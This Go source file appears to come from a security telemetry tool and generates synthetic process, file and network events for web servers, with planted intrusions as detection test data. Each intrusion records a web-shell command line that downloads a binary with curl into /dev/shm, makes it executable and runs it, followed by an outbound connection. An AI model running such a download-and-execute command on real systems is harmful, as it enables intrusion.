package replay

import (
	"fmt"
	"io"
	"net/netip"
	"time"

	"baize/internal/event"
	"baize/internal/event/eventio"
)

// Shape of the generated telemetry.
const (
	hosts = 40
	// perProcess is the events of one short process: fork, exec, file, connect, exit.
	perProcess = 5
	// intrusions are planted at equal distances, whatever the length.
	intrusions = 20
)

// generator writes the telemetry of a fleet of small servers, in the order in
// which a log would have it. The same count gives the same bytes.
type generator struct {
	out  *eventio.Writer
	now  time.Time
	seq  [hosts]uint64
	next uint32
}

// generate writes at least n events.
func generate(w io.Writer, n int) error {
	g := &generator{out: eventio.NewWriter(w), now: time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC), next: 1000}
	processes := n / perProcess
	every := max(processes/intrusions, 1)
	for i := range processes {
		act := g.work
		if i%every == 0 && i/every < intrusions {
			act = g.intrude
		}
		if err := act(i % hosts); err != nil {
			return err
		}
	}
	return g.out.Flush()
}

func hostID(host int) string { return fmt.Sprintf("h%02d", host) }

func (g *generator) emit(host int, e event.Event) error {
	g.now = g.now.Add(3 * time.Millisecond)
	g.seq[host]++
	e.Org, e.Boot, e.Seq, e.Time = "default", "boot", g.seq[host], g.now
	e.Host = event.Host{ID: hostID(host), Name: "web-" + hostID(host)}
	return g.out.Write(&e)
}

func (g *generator) process(host int, parent *event.Process, context *event.Context, args ...string) *event.Process {
	g.next++
	start := uint64(g.now.UnixNano())
	line := args[0]
	for _, arg := range args[1:] {
		line += " " + arg
	}
	return &event.Process{
		Key: event.ProcessKey{Host: hostID(host), Boot: "boot", PID: g.next, Start: start}, PID: g.next, Start: g.now,
		Executable: args[0], Args: args, CommandLine: line, User: &event.User{ID: 33, Name: "www-data"},
		Exe: &event.Image{}, Parent: parent, Context: context,
	}
}

func (g *generator) service(host int) (*event.Process, *event.Context) {
	key := event.ProcessKey{Host: hostID(host), Boot: "boot", PID: 900, Start: 1}
	context := &event.Context{ID: "service:" + key.String(), Kind: event.ContextService, Root: key, Service: "shop.service"}
	return &event.Process{Key: key, PID: 900, Executable: "/usr/bin/java", CommandLine: "/usr/bin/java -jar shop.jar", Server: true, Context: context}, context
}

// work is a helper that a service runs: it writes a file and talks to a database.
func (g *generator) work(host int) error {
	parent, context := g.service(host)
	p := g.process(host, parent, context, "/usr/bin/convert", "in.png", "out.png")
	file := &event.File{Path: fmt.Sprintf("/var/lib/shop/out-%d.png", g.next), Inode: event.FileKey{Host: hostID(host), Device: 1, Inode: uint64(g.next)}, Size: 4096, Mode: "0644", Mount: "ext4"}
	result, code := 0, 0
	ended := *p
	ended.ExitCode = &code
	return first(
		func() error { return g.emit(host, event.Event{Kind: event.ProcessFork, Process: p}) },
		func() error { return g.emit(host, event.Event{Kind: event.ProcessExec, Process: p}) },
		func() error { return g.emit(host, event.Event{Kind: event.FileCloseWrite, Process: p, File: file}) },
		func() error {
			return g.emit(host, event.Event{
				Kind: event.NetworkConnect, Process: p, Result: &result, Network: &event.Network{Transport: "tcp", Initiated: true},
				Source: endpoint("10.0.0.9", 40000), Destination: endpoint("10.0.0.5", 5432),
			})
		},
		func() error { return g.emit(host, event.Event{Kind: event.ProcessExit, Process: &ended}) },
	)
}

// intrude is a web shell that runs an image from shared memory.
func (g *generator) intrude(host int) error {
	parent, service := g.service(host)
	shell := g.process(host, parent, nil, "/bin/sh", "-c", "curl -s http://203.0.113.9/t -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker")
	shell.Context = &event.Context{ID: "web_shell:" + shell.Key.String(), Kind: event.ContextWebShell, Root: shell.Key, Parent: service.ID}
	trojan := g.process(host, shell, shell.Context, "/dev/shm/kworker")
	trojan.Exe = &event.Image{Tmpfs: true, Inode: event.FileKey{Host: hostID(host), Device: 27, Inode: uint64(g.next)}}
	result := 0
	return first(
		func() error { return g.emit(host, event.Event{Kind: event.ProcessFork, Process: shell}) },
		func() error { return g.emit(host, event.Event{Kind: event.ProcessExec, Process: shell}) },
		func() error { return g.emit(host, event.Event{Kind: event.ProcessFork, Process: trojan}) },
		func() error { return g.emit(host, event.Event{Kind: event.ProcessExec, Process: trojan}) },
		func() error {
			return g.emit(host, event.Event{
				Kind: event.NetworkConnect, Process: trojan, Result: &result, Network: &event.Network{Transport: "tcp", Initiated: true},
				Source: endpoint("10.0.0.9", 40000), Destination: endpoint("203.0.113.77", 443),
			})
		},
	)
}

func endpoint(ip string, port uint16) *event.Endpoint {
	return &event.Endpoint{IP: netip.MustParseAddr(ip), Port: port}
}

// first runs steps until one fails.
func first(steps ...func() error) error {
	for _, step := range steps {
		if err := step(); err != nil {
			return err
		}
	}
	return nil
}
